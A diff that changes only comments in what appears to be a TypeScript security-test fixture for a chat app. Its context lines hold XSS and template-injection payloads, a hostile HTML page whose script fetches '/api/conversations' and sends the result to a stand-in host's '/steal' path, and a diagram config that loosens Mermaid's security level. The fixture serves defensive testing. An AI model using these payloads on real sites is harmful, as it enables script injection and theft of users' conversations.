@@ -1,6 +1,6 @@
 /**
- * Attempts to run scripts, in every place that text comes from. Each would set `wasHarmed`, open a dialog or contact
- * another host.
+ * Attempts to run scripts, for every place that shows text. A successful attempt would set `wasHarmed`, open a dialog
+ * or contact another host.
  */
 const HARM = "globalThis.wasHarmed=1;alert(1)";
 
@@ -21,7 +21,7 @@ export const HOSTILE_ANSWER = [
   "[[S:1]] [[S:999999999]] {{constructor.constructor('return 1')()}}",
 ].join("\n\n");
 
-/** Everything that a page can try, against `other`: an address that counts its visitors. */
+/** All attacks that a page can try. `other` is an address that counts its visitors. */
 export function hostileHtml(other: string): string {
   const host = other.replace(/^https?:/, "");
   return `<!doctype html><html><head><title>Report</title>
@@ -47,7 +47,7 @@ fetch("/api/conversations").then((r)=>r.text()).then((t)=>fetch("${other}/steal?
 </body></html>`;
 }
 
-/** A diagram that tries to relax its own limits, to run scripts and to reach `other`. */
+/** A diagram that tries to loosen its own limits, to run scripts and to reach the address `other`. */
 export function hostileDiagram(other: string): string {
   const settings = {
     securityLevel: "loose",
